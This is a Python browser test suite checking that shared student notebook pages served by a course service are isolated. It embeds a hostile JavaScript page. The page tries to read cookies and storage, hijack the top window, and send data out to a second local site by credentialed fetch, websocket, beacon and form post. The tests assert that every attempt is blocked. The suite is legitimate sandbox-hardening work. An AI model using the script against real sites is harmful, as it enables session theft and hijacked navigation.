"""S-47: a shared notebook is HTML that a student wrote: its scripts read and reach nothing."""

import json
import socket
import tempfile
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from nbh_kit import http
from nbh_kit.testing import eventually, free_port
from tests.courses.service import Service
from tests.e2e.browser import browser

NAME = "a" * 32
HOSTILE = """<!doctype html><title>?</title><script>
const tried = async (what) => {
  try { return String(await what()); } catch (e) { return e.name; }
};
(async () => {
  const said = [
    self.origin,
    await tried(() => document.cookie),
    await tried(() => (document.cookie = "x=1")),
    await tried(() => localStorage.x),
    await tried(() => sessionStorage.x),
    await tried(() => new Promise((told, failed) => {
      const asked = indexedDB.open("x");
      asked.onsuccess = () => told("opened");
      asked.onerror = () => failed(asked.error);
    })),
    await tried(async () => (await navigator.serviceWorker.register("x.js")).scope),
  ];
  // alone in its tab it is its own parent, and may go where it likes: that is its address bar
  if (top !== self) said.push(
    await tried(() => top.location.href),
    await tried(() => { top.location = "%(elsewhere)s/navigated"; return "navigated"; }),
    await tried(() => parent.document.title),
  );
  for (const url of %(urls)s) {
    said.push(await tried(async () => (await fetch(url, {credentials: "include"})).status));
    said.push(await tried(async () => (await fetch(url, {mode: "no-cors"})).type));
    said.push(await tried(() => new Promise((told, failed) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = () => told("connected");
      socket.onerror = () => failed(new TypeError());
    })));
  }
  navigator.sendBeacon("%(elsewhere)s/beacon", "x");
  const form = document.createElement("form");
  form.action = "%(elsewhere)s/form";
  form.method = "post";
  document.documentElement.append(form);
  form.submit();
  document.title = said.join(" ");
  window.parent.postMessage(said, "*");
})();
</script>"""
FRAMING = """<!doctype html><title>?</title>
<script>addEventListener("message", (e) => { document.title = e.data.join(" "); });</script>
<iframe src="%s"></iframe>"""


class Elsewhere:
    """Another site: what was sent to it, and a page of its that frames a shared one."""

    def __init__(self, port: int) -> None:
        self.origin = f"http://localhost:{port}"
        self.asked: list[str] = []
        self.frames = ""

    async def anything(self, request: Request) -> Response:
        self.asked.append(f"{request.method} {request.url.path}")
        return HTMLResponse(self.frames, headers={"Access-Control-Allow-Origin": "*"})


@asynccontextmanager
async def elsewhere():
    port = free_port()
    site = Elsewhere(port)
    methods = ["GET", "POST"]
    app = Starlette(routes=[Route("/{path:path}", site.anything, methods=methods)])
    async with http.serving(app, "127.0.0.1", port):
        yield site


@pytest.fixture
def open_folder():
    """Where the service's own user can read."""
    with tempfile.TemporaryDirectory(prefix="nbh-s47-") as folder:
        Path(folder).chmod(0o755)
        yield Path(folder)


@pytest.fixture
async def served(open_folder, nats_url):
    """The service that serves shared pages, and another site with one of them in a frame."""
    service = Service(open_folder, nats_url)
    service.serve_without_traefik()
    snapshots = open_folder / "data" / "snapshots"
    snapshots.mkdir()
    snapshots.chmod(0o711)
    async with service.running(), elsewhere() as site:
        urls = [f"http://{host}:{service.port}/login" for host in ("127.0.0.1", "localhost")]
        said = {"elsewhere": site.origin, "urls": json.dumps([*urls, f"{site.origin}/fetched"])}
        page = snapshots / f"{NAME}.html"
        page.write_text(HOSTILE % said)
        page.chmod(0o644)
        url = f"http://share.localhost:{service.port}/snapshots/{NAME}.html"
        site.frames = FRAMING % url
        await eventually(lambda: _listens(service.port), within=20)
        yield site, url


OF_A_SHARE = ["null", *["SecurityError"] * 6]
"""Origin; cookie read and written; two storages; a database; a service worker."""

NOTHING = ["TypeError"] * 9
"""Three places, each by a fetch, by one that is not to be read, and by a websocket."""


@pytest.mark.browser
async def test_its_scripts_have_no_origin_no_storage_and_reach_nothing(tmp_path, served):
    site, url = served
    async with browser(tmp_path / "profile") as chromium:
        page = await chromium.new_page()
        await page.goto(url)
        await eventually(lambda: _told(page), within=20)
        assert (await page.title()).split(" ") == [*OF_A_SHARE, *NOTHING]
    assert site.asked == []


@pytest.mark.browser
async def test_in_a_frame_it_leaves_the_page_around_it_alone(tmp_path, served):
    site, _ = served
    async with browser(tmp_path / "profile") as chromium:
        page = await chromium.new_page()
        await page.goto(f"{site.origin}/course")
        await eventually(lambda: _told(page), within=20)
        said = (await page.title()).split(" ")
        assert said == [*OF_A_SHARE, *["SecurityError"] * 3, *NOTHING]
        assert page.url == f"{site.origin}/course"
    assert [each for each in site.asked if "course" not in each and "favicon" not in each] == []


async def _told(page):
    return await page.title() != "?"


def _listens(port):
    with socket.create_connection(("127.0.0.1", port)):
        return True
